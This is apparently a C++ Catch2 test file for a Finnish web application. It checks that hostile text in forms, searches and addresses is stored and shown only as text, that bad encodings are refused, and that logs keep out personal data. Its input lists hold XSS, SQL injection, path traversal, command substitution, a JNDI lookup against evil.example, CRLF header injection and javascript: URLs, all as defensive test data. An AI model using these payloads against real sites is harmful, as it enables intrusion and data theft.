// Text that wants to be something else, in every field that takes text.
#include <catch2/catch.hpp>

#include "demo_site.h"
#include "html_shape.h"
#include "route_table.h"

namespace toimela::program_tests {
namespace {

const std::vector<std::string>& hostileTexts() {
  static const std::vector<std::string> texts{
      "<script>alert(1)</script>",
      "\"><svg onload=alert(1)>",
      "' onmouseover='alert(1)",
      "</textarea></title><img src=x onerror=alert(1)>",
      "<!--<script>-->",
      "]]><x>",
      "{{csrf}} {{{html.x}}} {{> layout}} {{#fields}}",
      "{name} {count, plural, other {#}} '{'",
      "&lt;b&gt; &amp;amp; &#60;i&#62;",
      "javascript:alert(1)",
      "[a](javascript:alert(1)) ![x](https://evil.example/x.png)",
      "'; DROP TABLE core_person; --",
      "1' OR '1'='1",
      "%' OR 1=1 --",
      "100% _under_ \\back\\",
      ":name :p1 ::text $1 $$ ?",
      "=HYPERLINK(\"https://evil.example\")",
      "+1+1",
      "-1",
      "@SUM(A1)",
      "../../../etc/passwd",
      "C:\\windows\\system32",
      "file:///etc/passwd",
      "Åbo Työväenyhdistys ÄÖÅ äöå Sámi čđŋšŧž",
      "‮evil‬ \u200Bzero\u200Bwidth\uFEFF",
      "مرحبا 你好 🇫🇮 👩‍👩‍👧‍👦",
      "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
      "null",
      "undefined",
      "NaN",
      "true",
      "0",
      "%00",
      "%0d%0aSet-Cookie: x=1",
      "\\x00 \\u0000 \\n",
      "<a href=\"https://evil.example\">here</a>",
      "http://a/%%30%30",
      "`touch /tmp/x` $(id) ${jndi:ldap://evil.example/a}",
      "<x\xC2\xA0onclick=alert(1)>",
      "\"'><&"};
  return texts;
}

/// What Markdown may make of a text, in the one place where it is read as such.
const std::set<std::string> kMarkdown{
    "p",  "ul", "ol",         "li", "em", "strong", "a",  "a[href]", "a[rel]", "code",     "pre",
    "br", "hr", "blockquote", "h2", "h3", "h4",     "h5", "h6",      "del",    "ol[start]"};

/// Pages as they are with a harmless text: a hostile one must make the same elements and
/// attributes.
class Shapes {
 public:
  void keep(const std::string& what, const Answer& page) {
    for (const std::string& element : shapeOf(page.body).elements) known_[what].insert(element);
  }

  void check(const std::string& what, const Answer& page, const std::string& text,
             bool hasMarkdown = false) const {
    INFO(what << " shows: " << text);
    CHECK(page.status == 200);
    CHECK(htmlDecoded(page.body).find(text) != std::string::npos);
    const Shape shape = shapeOf(page.body);
    for (const std::string& element : shape.elements) {
      INFO(element);
      CHECK((known_.at(what).contains(element) || (hasMarkdown && kMarkdown.contains(element))));
    }
    for (const std::string& address : shape.addresses) {
      INFO(address);
      const auto colon = address.find(':');
      const std::string scheme =
          colon < address.find_first_of("/?#") ? address.substr(0, colon) : "";
      CHECK((scheme.empty() || scheme == "http" || scheme == "https" || scheme == "mailto" ||
             scheme == "tel"));
    }
  }

 private:
  std::map<std::string, std::set<std::string>> known_;
};

TEST_CASE("hostile text in any field is stored whole and shown as text") {
  for (const DemoSite& site : demoSites()) {
    INFO(site.kind());
    Backstage backstage(site);
    Server server(site.settings({{"log_level", "debug"}}));
    Browser admin = backstage.signedIn(server, site.account("national_admin"));
    Browser visitor(server);
    const std::string network =
        "/fi/contacts/networks/" +
        backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM contacts_network WHERE region = '06'");
    const std::string networkId = network.substr(network.rfind('/') + 1);
    const std::string organisationId =
        backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation WHERE region = '06'");
    const std::string organisation = "/fi/organisations/" + organisationId;
    int member = 0;
    Shapes shapes;
    // A harmless text gives the measure; twice, as lists are there from the second person on.
    std::vector<std::string> texts{"Tavallinen teksti", "Tavallinen teksti"};
    // A text without a letter or digit has no word to be found by.
    shapes.keep("a search that finds it", visitor.get("/fi/organisations?q=qqxyz"));
    // The index follows a moment later; a page of many hits, and one with a hint, have everything that one may have.
    REQUIRE(eventually([&] { return visitor.get("/fi/search?q=ty%C3%B6llisyys").has("<mark>"); }));
    for (const char* words : {"qqxyz", "verksto", "verkosto", "ty%C3%B6llisyys", "employment", "arbete", "network", "h%C3%A4n", "ja"}) {
      shapes.keep("a search", visitor.get("/fi/search?q=" + std::string(words)));
      shapes.keep("a search", admin.get("/fi/search?q=" + std::string(words)));
    }
    texts.insert(texts.end(), hostileTexts().begin(), hostileTexts().end());
    for (const std::string& text : texts) {
      INFO("text: " << text);
      const auto shown = [&](const std::string& what, const Answer& page,
                             bool hasMarkdown = false) {
        if (text == texts.front()) shapes.keep(what, page);
        shapes.check(what, page, text, hasMarkdown);
      };
      // An organisation's card, with its three languages.
      FormFields card{{"name_fi", text},    {"name_sv", text},
                      {"name_en", text},    {"sector", "association"},
                      {"business_id", ""},  {"register_number", text.size() <= 20 ? text : "1"},
                      {"municipality", ""}, {"website", ""},
                      {"summary_fi", text}, {"summary_sv", ""},
                      {"summary_en", ""}};
      card.emplace_back(
          "revision",
          backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " +
                         organisationId));
      REQUIRE(admin.post(organisation + "/edit", card).status == 303);
      admin.get("/fi/admin");  // takes the message of the change, which is no part of the measure
      CHECK(backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + organisationId) ==
            text);
      CHECK(backstage.text("SELECT summary_fi FROM core_organisation WHERE id = " +
                           organisationId) == text);
      shown("the card", visitor.get(organisation));
      shown("the form of the card", admin.get(organisation + "/edit"));
      shown("a search that finds it", visitor.get("/fi/organisations?q=" + percentEncoded(text)));
      card.back().second = "1";
      card.front().second = text + "!";
      Answer stale = admin.post(organisation + "/edit", card);
      CHECK(stale.status == 409);
      stale.status = 200;
      shown("the form of a stale card", stale);

      // A network, whose purpose is Markdown.
      FormFields form{{"name_fi", text},    {"name_sv", ""},    {"name_en", ""},
                      {"purpose_fi", text}, {"purpose_sv", ""}, {"purpose_en", ""},
                      {"kind", "theme"},    {"coordinator", ""}};
      form.emplace_back(
          "revision",
          backstage.text("SELECT CAST(revision AS TEXT) FROM contacts_network WHERE id = " +
                         networkId));
      REQUIRE(admin.post(network + "/edit", form).status == 303);
      admin.get("/fi/admin");
      CHECK(backstage.text("SELECT purpose_fi FROM contacts_network WHERE id = " + networkId) ==
            text);
      shown("the network", visitor.get(network), true);
      shown("the networks of the region", visitor.get("/fi/regions/pirkanmaa/contacts"));
      const nlohmann::json json =
          nlohmann::json::parse(visitor.get("/api/v1/contacts/networks/" + networkId).body);
      CHECK(json.at("name").at("fi") == text);

      // A person.
      const std::string email = "nimi" + std::to_string(++member) + "@test.example";
      const Answer added = admin.post(network + "/members/new", {{"email", email},
                                                                 {"given_name", text},
                                                                 {"family_name", "Sukunimi"},
                                                                 {"organisation", organisationId},
                                                                 {"role", "contact_person"},
                                                                 {"from", "2025-01-01"},
                                                                 {"to", ""}});
      REQUIRE(added.status == 303);
      admin.get("/fi/admin");
      CHECK(backstage.text("SELECT given_name FROM core_person WHERE email_key = '" + email +
                           "'") == text);
      shown("the network with the person", visitor.get(network), true);
      shown("the person", admin.get("/fi/admin/people/" + std::to_string(backstage.idOf(email))));
      shown("the search for the person", admin.get("/fi/admin/people?q=" + percentEncoded(email)));
      // Addresses are as free as names.
      shown("a search", visitor.get("/fi/search?q=" + percentEncoded(text)));
      shown("a sign-in to go on", visitor.get("/fi/sign-in?next=" + percentEncoded(text)));
      Answer refused = visitor.post("/fi/sign-in", {{"email", text}, {"password", ""}});
      CHECK(refused.status == 422);
      refused.status = 200;
      shown("a refused sign-in", refused);
    }
    // Whatever it was, the audit log shows it as text too.
    CHECK(admin.get("/fi/admin/audit").status == 200);
    CHECK_FALSE(admin.get("/fi/admin/audit").has("<script>alert"));
    CHECK(backstage.number("SELECT COUNT(*) FROM core_person") > 40);
    CHECK(server.stop() == 0);
  }
}

TEST_CASE(
    "control characters, broken UTF-8 and text without end are refused in words and kept out") {
  for (const DemoSite& site : demoSites()) {
    INFO(site.kind());
    Backstage backstage(site);
    Server server(site.settings());
    Browser admin = backstage.signedIn(server, site.account("national_admin"));
    const std::string id = backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation");
    const std::string name =
        backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + id);
    using namespace std::string_literals;
    for (const std::string& text :
         {"a\0b"s, "a\x01\x02"s, "a\x1B[31mred"s, "a\x7Fz"s, "a\xFFz"s, "a\xC3"s, "\xC0\xAF"s,
          "\xED\xA0\x80"s, "a\xF4\x90\x80\x80"s, std::string(5'000, 'x')}) {
      const std::string revision =
          backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " + id);
      const Answer answer =
          admin.post("/fi/organisations/" + id + "/edit", {{"name_fi", text},
                                                           {"name_sv", ""},
                                                           {"name_en", ""},
                                                           {"sector", "other"},
                                                           {"business_id", ""},
                                                           {"register_number", ""},
                                                           {"municipality", ""},
                                                           {"website", ""},
                                                           {"summary_fi", ""},
                                                           {"summary_sv", ""},
                                                           {"summary_en", ""},
                                                           {"revision", revision}});
      CHECK(answer.status == 422);
      CHECK(answer.has("id=\"form-errors\""));
      CHECK(backstage.text("SELECT name_fi FROM core_organisation WHERE id = " + id) == name);
      // Nowhere a reason to fall over: in a search, a path, a cookie, a header.
      const Browser visitor(server);
      for (const std::string& target :
           {"/fi/organisations?q=" + percentEncoded(text).substr(0, 6'000),
            "/fi/regions/" + percentEncoded(text).substr(0, 6'000),
            "/fi/sign-in?next=" + percentEncoded(text).substr(0, 6'000)}) {
        const auto status = Browser(server).get(target).status;
        INFO(target.substr(0, 60));
        CHECK((status == 200 || status == 404 || status == 400));
      }
    }
    CHECK(server.stop() == 0);
  }
}

TEST_CASE("no number or name in an address makes the program fall over") {
  for (const DemoSite& site : demoSites()) {
    Backstage backstage(site);
    Server server(site.settings());
    Browser admin = backstage.signedIn(server, site.account("national_admin"));
    const std::map<std::string, std::string> sound{
        {"region", "pirkanmaa"}, {"network", "1"},       {"member", "1"},  {"organisation", "1"},
        {"person", "1"},         {"plugin", "contacts"}, {"message", "1"}, {"file*", "app.css"},
        {"post", "1"},           {"comment", "1"},       {"claim", "1"}, {"application", "1"}, {"invitation", "1"}, {"file", "1"},    {"token", "x"},
        {"event", "1"},          {"session", "1"},       {"quota", "1"},   {"question", "1"},
        {"registration", "1"},   {"participant", "1"},   {"code", "x"},
        {"material", "1"},       {"series", "1"},        {"publication", "1"}, {"part", "1"},  {"number", "1"}, {"page", "1"},
         {"format", "ris"},       {"article", "1"},      {"upload", "x"},   {"key", "x"},
         {"deck", "1"},           {"edition", "1"},      {"card", "1"},     {"collection", "1"},
         {"order", "1"},          {"stock", "1"},        {"theme", "x"},    {"contribution", "1"}};
    const std::vector<std::string> values{"0",
                                          "-1",
                                          "2147483648",
                                          "9223372036854775807",
                                          "99999999999999999999",
                                          "1e9",
                                          "%27",
                                          "%00",
                                          "%ff",
                                          "%2e%2e%2f",
                                          "%"};
    int asked = 0;
    const auto ask = [&](const std::string& target) {
      INFO(target << " on " << site.kind());
      const int status = admin.get(target).status;
      CHECK(status >= 200);
      CHECK(status < 500);
      ++asked;
    };
    for (const ListedRoute& route : listedRoutes(site.settings())) {
      if (!route.isSafe()) continue;
      for (const std::string& value : values) {
        for (const std::string name :
             {"page", "limit", "after", "before", "q", "region", "sector", "organisation", "next", "below", "edition", "cards", "n"})
          ask(route.path(sound) + "?" + name + "=" + value);
        for (const auto& [name, example] : sound) {
          if (!route.has(name)) continue;
          auto spoilt = sound;
          spoilt[name] = value;
          ask(route.path(spoilt));
        }
      }
    }
    CHECK(asked > 3'000);
    CHECK(server.log().find(" error ") == std::string::npos);
    CHECK(server.stop() == 0);
  }
}

TEST_CASE("an address on an organisation's card can only be a web address") {
  const DemoSite site = demoSite();
  Backstage backstage(site);
  Server server(site.settings());
  Browser admin = backstage.signedIn(server, site.account("national_admin"));
  const std::string id = backstage.text("SELECT CAST(MIN(id) AS TEXT) FROM core_organisation");
  const auto save = [&](const std::string& website) {
    return admin
        .post("/fi/organisations/" + id + "/edit",
              {{"name_fi", "Nimi"},
               {"sector", "other"},
               {"website", website},
               {"revision",
                backstage.text("SELECT CAST(revision AS TEXT) FROM core_organisation WHERE id = " +
                               id)}})
        .status;
  };
  for (const std::string bad :
       {"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>", "vbscript:x",
        "file:///etc/passwd", "https://user@evil.example", "https://a b.example",
        "https://a.example/\"onclick=", "//evil.example", "ftp://a.example"}) {
    INFO(bad);
    CHECK(save(bad) == 422);
  }
  CHECK(save("https://toimela.example/sivu?a=1&b=2") == 303);
  CHECK(Browser(server)
            .get("/fi/organisations/" + id)
            .has("href=\"https://toimela.example/sivu?a=1&amp;b=2\""));
}

TEST_CASE("the log has nobody's address or name, whatever goes wrong") {
  for (const DemoSite& site : demoSites()) {
    INFO(site.kind());
    Backstage backstage(site);
    Server server(site.settings({{"log_level", "debug"}}));
    const Account& account = site.account("regional_admin");
    Browser person(server);
    CHECK(person.signIn(account.email, "wrong password 1").status == 422);
    CHECK(person.signIn(account.email, account.password).status == 303);
    Browser admin = backstage.signedIn(server, site.account("national_admin"));
    for (const std::string& email : backstage.texts("SELECT email FROM core_person")) {
      const std::string id = std::to_string(backstage.idOf(email));
      admin.get("/fi/admin/people?q=" + percentEncoded(email));
      admin.get("/fi/admin/people/" + id);
      admin.post("/fi/admin/people/" + id + "/grants", {{"role", email}, {"place", email}});
      person.get("/fi/nothing/" + percentEncoded(email) + "?email=" + email);
    }
    // A statement that fails has the words of the address among its values.
    backstage.run("DROP TABLE core_word");
    const auto erased = backstage.text("SELECT email FROM core_person WHERE id = 5");
    CHECK(admin.get("/fi/admin/people?q=" + percentEncoded(erased)).status == 500);
    CHECK(admin
              .post("/fi/admin/people/new", {{"given_name", "Salainen"},
                                             {"family_name", "Nimi"},
                                             {"email", "salainen@test.example"},
                                             {"phone", ""},
                                             {"language", "fi"},
                                             {"initial_password", "Erittäin salainen 1"},
                                             {"role", "member"},
                                             {"place", "nation"},
                                             {"valid_from", "2025-01-01"},
                                             {"valid_to", ""}})
              .status != 0);
    CHECK(server.stop() == 0);
    const std::string log = server.log();
    CHECK(log.find("status=\"500\"") != std::string::npos);
    CHECK(log.find("salainen") == std::string::npos);
    CHECK(log.find(account.password) == std::string::npos);
    CHECK(log.find("127.0.0.1\"") == std::string::npos);
    for (const std::string& email : backstage.texts("SELECT email FROM core_person")) {
      INFO(email);
      CHECK(log.find(email) == std::string::npos);
      CHECK(log.find(percentEncoded(email)) == std::string::npos);
    }
    for (const std::string& name : backstage.texts("SELECT family_name FROM core_person")) {
      INFO(name);
      CHECK((name.empty() || log.find(name) == std::string::npos));
    }
  }
}

}  // namespace
}  // namespace toimela::program_tests
